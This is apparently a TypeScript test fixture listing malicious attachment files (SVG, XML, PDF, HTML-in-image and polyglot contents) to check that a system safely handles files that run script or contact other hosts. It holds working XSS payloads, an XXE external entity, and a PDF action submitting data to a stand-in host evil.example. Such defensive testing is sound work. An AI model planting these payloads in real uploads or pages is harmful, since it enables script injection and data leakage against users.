/** Files that run scripts, or ask other hosts, where a browser opens them as a page; by name. */
export const ATTACHMENTS: Readonly<Record<string, string>> = {
  'script.svg': '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><rect width="9" height="9"/></svg>',
  'load.svg': '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="9" height="9"/></svg>',
  'foreign.svg':
    '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject width="99" height="99"><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="alert(1)"/><iframe src="javascript:alert(1)"/></body></foreignObject></svg>',
  'loads.svg':
    '<svg xmlns="http://www.w3.org/2000/svg"><image href="https://evil.example/x.png"/><style>@import "https://evil.example/x.css";</style><use href="https://evil.example/x.svg#a"/></svg>',
  'link.svg':
    '<svg xmlns="http://www.w3.org/2000/svg"><a href="javascript:alert(1)"><rect width="999" height="999"/></a></svg>',
  'external.svg': '<svg xmlns="http://www.w3.org/2000/svg"><script href="https://evil.example/x.js"/></svg>',
  'page.xml':
    '<html xmlns="http://www.w3.org/1999/xhtml"><body onload="alert(1)"><script>alert(1)</script></body></html>',
  'sheet.xml':
    '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#x"?><x id="x"><s xmlns="http://www.w3.org/1999/xhtml"><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script></s></x>',
  'entity.xml': '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "https://evil.example/e">]><x>&e;</x>',
  'script.pdf':
    '%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\("https://evil.example/"\\))>>>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]>>endobj\ntrailer<</Root 1 0 R>>\n',
  'html.txt': '<!DOCTYPE html><script>alert(1)</script>',
  'html.csv': '<html><script>alert(1)</script>',
  'html.json': '{"a":"<script>alert(1)</script>"}',
  'html.png': '<!DOCTYPE html><script>alert(1)</script>',
  'gif.gif': 'GIF89a/*<svg/onload=alert(1)>*/=alert(1)//;',
  'html.zip': '<!DOCTYPE html><script>alert(1)</script>',
  'html.webm': '<!DOCTYPE html><script>alert(1)</script>',
  'page.html': '<!DOCTYPE html><script>alert(1)</script>',
  'page.xhtml': '<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>',
  'script.js': 'alert(1)',
  'sheet.css': '*{background:url(https://evil.example/x)}',
};
